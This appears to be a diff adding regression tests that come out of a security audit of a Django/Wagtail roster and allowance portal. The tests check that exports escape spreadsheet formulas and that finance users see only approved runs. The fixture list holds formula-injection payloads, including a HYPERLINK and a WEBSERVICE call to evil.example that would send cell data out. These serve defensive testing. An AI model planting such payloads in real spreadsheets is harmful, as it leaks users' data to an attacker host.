@@ -1,0 +1,112 @@
+"""Issue “Trust”: findings of the outside audit, each class with a test that fails if it comes back."""
+
+import csv
+import io
+
+import pytest
+from django.contrib.auth import get_user_model
+from django.urls import reverse
+from openpyxl import load_workbook
+from wagtail.log_actions import log
+
+from roster import allowance, exports, statistics
+from roster.models import AllowanceRun, Entry
+from roster.spreadsheets import csv_text
+from tests import clock
+from tests.factories import EntryFactory, PersonFactory, RoundFactory, UnitFactory, UserFactory
+from workflow import roles
+from workflow.states import Status
+
+S = Status
+pytestmark = pytest.mark.django_db
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
+    '=WEBSERVICE("http://evil.example")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+]
+
+
+def cells(content: bytes) -> list:
+    workbook = load_workbook(io.BytesIO(content))
+    return [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+
+
+# --- 3. Formula injection: every workbook and CSV the portal writes keeps text as text -------------------
+
+
+@pytest.fixture
+def hostile_entries():
+    """Chief technicians whose unit typed formulas into the name, the unit and the deeds summary."""
+    made, round_ = [], RoundFactory(year=2024)
+    for n, formula in enumerate(FORMULAS):
+        unit = UnitFactory(name=f"{formula}{n}")
+        person = PersonFactory(unit=unit, name=formula[:30])
+        made.append(EntryFactory(round=round_, person=person, status=S.ACTIVE, deeds_summary=formula))
+    return made
+
+
+def assert_text_only(content: bytes, expected: list[str]):
+    found = cells(content)
+    assert not [c.coordinate for c in found if c.data_type == "f"], "a typed value became a formula"
+    values = {c.value for c in found}
+    for text in expected:
+        assert text in values, text
+
+
+def test_office_workbooks_write_typed_formulas_as_text(hostile_entries):
+    entries = Entry.objects.all()
+    names = [e.person.name for e in hostile_entries]
+    assert_text_only(exports.talent_pool(entries, with_numbers=True), names)
+    assert_text_only(exports.round_candidates(hostile_entries[0].round, entries, with_numbers=True), FORMULAS)
+    assert_text_only(statistics.workbook("chief", "industry", [(FORMULAS[0], 1)]), [FORMULAS[0]])
+    with clock.travel(2026, 11, 24):
+        run = allowance.compute_run(2026)
+    paid = [line.entry.person.name for line in run.lines.select_related("entry__person")]
+    assert paid
+    assert_text_only(allowance.run_workbook(run), paid)
+
+
+def test_csv_cells_that_start_a_formula_are_escaped():
+    for formula in FORMULAS:
+        assert csv_text(formula) == "'" + formula
+    assert csv_text("林一帆") == "林一帆" and csv_text(3) == 3
+
+
+def test_wagtail_site_history_csv_escapes_typed_formulas(client):
+    admin = get_user_model().objects.create_superuser("root", "root@example.cn", "pw-test-123")
+    unit = UnitFactory(name=FORMULAS[0])
+    log(instance=unit, action="wagtail.create", user=admin)
+    client.force_login(admin)
+    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
+    assert response.status_code == 200
+    body = b"".join(response.streaming_content).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(body)))
+    labels = [cell for row in rows[1:] for cell in row]
+    assert "'" + FORMULAS[0] in labels and FORMULAS[0] not in labels
+
+
+# --- 4. Finance sees and downloads approved allowance runs only -----------------------------------------
+
+
+def test_finance_never_sees_or_downloads_a_run_not_yet_approved(client):
+    office, second = UserFactory(role=roles.OFFICE), UserFactory(role=roles.OFFICE)
+    finance = UserFactory(role=roles.FINANCE)
+    EntryFactory(status=S.ACTIVE, round=RoundFactory(year=2022))
+    with clock.travel(2026, 11, 24):
+        pending = allowance.compute_run(2024, office)
+        approved = allowance.approve_run(allowance.compute_run(2023, office), second)
+    assert not pending.approved and approved.approved
+    client.force_login(finance)
+    listing = client.get(reverse("roster_allowance_runs")).content.decode()
+    assert "2023" in listing and reverse("roster_allowance_run", args=(2024,)) not in listing
+    assert client.get(reverse("roster_allowance_run", args=(2024,))).status_code == 404
+    assert client.get(reverse("roster_allowance_download", args=(2024,))).status_code == 404
+    download = client.get(reverse("roster_allowance_download", args=(2023,)))
+    assert download.status_code == 200 and download.content.startswith(b"PK")
+    # The office still sees and downloads the run it is preparing.
+    client.force_login(office)
+    assert client.get(reverse("roster_allowance_run", args=(2024,))).status_code == 200
+    assert client.get(reverse("roster_allowance_download", args=(2024,))).status_code == 200
+    assert AllowanceRun.objects.count() == 2
